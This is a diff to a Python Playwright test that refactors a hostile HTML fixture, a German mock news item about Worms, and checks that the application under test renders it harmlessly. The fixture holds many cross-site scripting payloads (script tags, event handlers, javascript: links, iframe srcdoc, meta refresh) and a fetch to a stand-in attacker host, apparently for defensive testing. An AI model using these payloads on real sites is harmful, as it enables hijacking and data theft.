@@ -8,20 +8,31 @@ from playwright.sync_api import BrowserContext, Page, expect
 from tests.review.workplace import Workplace
 
 EVIL = "http://evil.example"
+GRAB = "document.title='GEKAPERT'"
 ROWS = "".join(f"<tr><td>Zeile {row}</td>{'<td>x</td>' * 30}</tr>" for row in range(300))
-PAGE = f"""<html><head><title>"><script>document.title='GEKAPERT'</script></title>
-<meta name="author" content="&quot;><img src=x onerror=document.title='GEKAPERT'>">
+STYLE = f"@import url({EVIL}/b.css); * {{ display: none !important }} body {{ background: url({EVIL}/c.png) }}"
+PAGE = f"""<html><head><title>"><script>{GRAB}</script></title>
+<meta name="author" content="&quot;><img src=x onerror={GRAB}>">
 <meta http-equiv="refresh" content="0;url={EVIL}/"><base href="{EVIL}/"><link rel="stylesheet" href="{EVIL}/a.css">
-<style>@import url({EVIL}/b.css); * {{ display: none !important }} body {{ background: url({EVIL}/c.png) }}</style></head>
-<body onload="document.title='GEKAPERT'"><article><h1>Neue Leitung {{{{ 7*7 }}}}</h1>
-<script>document.title='GEKAPERT'; fetch('{EVIL}/stolen')</script><iframe src="{EVIL}/frame" srcdoc="<script>parent.document.title='GEKAPERT'</script>"></iframe>
-<p>Claus Scheller leitet seit heute &lt;script&gt;document.title='GEKAPERT'&lt;/script&gt; das Amt der Stadt Worms.</p>
-<p onmouseover="document.title='GEKAPERT'">F&uuml;r Fragen steht er unter Telefon 06241 853-1060 zur Verf&uuml;gung &lt;img src=x onerror=alert(1)&gt;.</p>
-<p>Mehr unter <a href="javascript:document.title='GEKAPERT'">javascript:alert(1)</a> und {EVIL}/mehr sowie <a href="{EVIL}/">hier</a>.</p>
-<svg onload="document.title='GEKAPERT'"><a href="javascript:alert(1)"><text>Bild</text></a></svg>
-<form action="{EVIL}/form"><input name="x" autofocus onfocus="document.title='GEKAPERT'"><button>Absenden</button></form>
+<style>{STYLE}</style></head>
+<body onload="{GRAB}"><article><h1>Neue Leitung {{{{ 7*7 }}}}</h1>
+<script>{GRAB}; fetch('{EVIL}/stolen')</script>
+<iframe src="{EVIL}/frame" srcdoc="<script>parent.{GRAB}</script>"></iframe>
+<p>Claus Scheller leitet seit heute &lt;script&gt;{GRAB}&lt;/script&gt; das Amt der Stadt Worms.</p>
+<p onmouseover="{GRAB}">F&uuml;r Fragen steht er unter Telefon 06241 853-1060 zur Verf&uuml;gung.</p>
+<p>Ein Bild &lt;img src=x onerror=alert(1)&gt; zeigt die Stadt Worms, wie sie heute aussieht.</p>
+<p>Mehr unter <a href="javascript:{GRAB}">javascript:alert(1)</a> und {EVIL}/mehr sowie <a href="{EVIL}/">hier</a>.</p>
+<svg onload="{GRAB}"><a href="javascript:alert(1)"><text>Bild</text></a></svg>
+<form action="{EVIL}/form"><input name="x" autofocus onfocus="{GRAB}"><button>Absenden</button></form>
 <table>{ROWS}</table>
-<p>Umkehrung \u202egnuk\u202c und Null&#0;zeichen, &lt;/span&gt;&lt;/pre&gt;&lt;/template&gt; " ' ` ]]&gt; --&gt;</p></article></body></html>"""
+<p>Umkehrung \u202egnuk\u202c und Null&#0;zeichen, &lt;/span&gt;&lt;/pre&gt;&lt;/template&gt; " ' ` ]]&gt; --&gt;</p>
+</article></body></html>"""
+FORBIDDEN = (
+    "iframe, img, svg, base, object, embed, meta[http-equiv], #source a, #record a:not([href^='#']), #source form, "
+    "#source style"
+)
+HANDLERS = "[...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames()).filter((n) => n.startsWith('on'))"
+FOREIGN_LINKS = "[...document.querySelectorAll('a')].filter((a) => a.origin !== location.origin).length"
 
 
 def test_a_hostile_page_does_nothing(
@@ -54,12 +65,6 @@ def test_a_hostile_page_does_nothing(
     assert dialogs == []
     assert [url for url in asked if not url.startswith(f"{served.url}/")] == []
     assert page.url.startswith(f"{served.url}/documents/")
-    tags = "iframe, img, svg, base, object, embed, meta[http-equiv], #source a, #record a:not([href^='#']), #source form, #source style"
-    assert page.locator(tags).count() == 0
-    assert (
-        page.evaluate(
-            "[...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames()).filter((n) => n.startsWith('on'))"
-        )
-        == []
-    )
-    assert page.evaluate("[...document.querySelectorAll('a')].filter((a) => a.origin !== location.origin).length") == 0
+    assert page.locator(FORBIDDEN).count() == 0
+    assert page.evaluate(HANDLERS) == []
+    assert page.evaluate(FOREIGN_LINKS) == 0
